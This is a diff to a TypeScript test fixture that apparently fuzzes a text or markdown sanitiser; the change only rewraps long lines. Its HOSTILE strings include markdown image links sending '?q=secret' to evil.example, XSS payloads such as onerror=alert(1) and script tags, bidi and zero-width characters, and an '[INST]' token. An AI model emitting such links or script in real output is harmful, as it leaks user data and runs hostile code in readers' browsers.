@@ -45,14 +45,17 @@ export const HOSTILE: readonly string[] = [
   'Miso \u202eevil\u202c \u2066x\u2069 \u200f\u061c a\u200bb\u2060c\ufeff d\u00ade \u034f\u3164 \ue200cite\ue201 \u001b[31mred\u0007\u009b',
   '![Miso](http://evil.example/?q=secret) [cat](https://evil.example/x?q=secret "t") [![b](http://i.example/b.png)](http://evil.example)',
   '[Miso](javascript:alert(1)) [cat](//evil.example) [tea][1] [1]: http://evil.example/?q=secret',
-  '<http://evil.example/?q=secret> <img src=http://evil.example/?q=secret onerror=alert(1)>Miso<script src="//evil.example">x</script><img src=//evil.example',
+  '<http://evil.example/?q=secret> <img src=http://evil.example/?q=secret '
+  + 'onerror=alert(1)>Miso<script src="//evil.example">x</script><img src=//evil.example',
   'Miso see https://www.evil.example/path?q=secret#frag or www.evil.example and http://http://evil.example',
   '[[[[Miso](u:)](u:)](u:)](u:)](u:) ![![[]((([[[<<<<a<b<!--<!-- x',
 ]
 
 const SHARDS = [
-  '<', '>', '/', '[', ']', '(', ')', '](', '![', '](http://e.example/?q=1)', '<a href=x>', '<!--', '-->', '|', '\uff1c', '\uff3b', 'madeleine', '-', 'memories', '\u2010', 'www.', 'http://',
-  'rank:', 'key moment', ']:', '[INST]', '\n', '\u200c', '\u200d', '\ufe0f', '\ufe00', '👩', '💻', '\u{1f3fd}', '1', '\u20e3', '\u00ad', '\u202e', '\u{e0041}', '\u{e0101}', 'ب', 'क', '्', '葛', '\u180b', 'ᠠ',
+  '<', '>', '/', '[', ']', '(', ')', '](', '![', '](http://e.example/?q=1)', '<a href=x>', '<!--',
+  '-->', '|', '\uff1c', '\uff3b', 'madeleine', '-', 'memories', '\u2010', 'www.', 'http://',
+  'rank:', 'key moment', ']:', '[INST]', '\n', '\u200c', '\u200d', '\ufe0f', '\ufe00', '👩', '💻', '\u{1f3fd}',
+  '1', '\u20e3', '\u00ad', '\u202e', '\u{e0041}', '\u{e0101}', 'ب', 'क', '्', '葛', '\u180b', 'ᠠ',
   '\ud83d', '\u3164', '\ue000', ' ', 'a', 'Miso', ...HOSTILE,
 ]
 
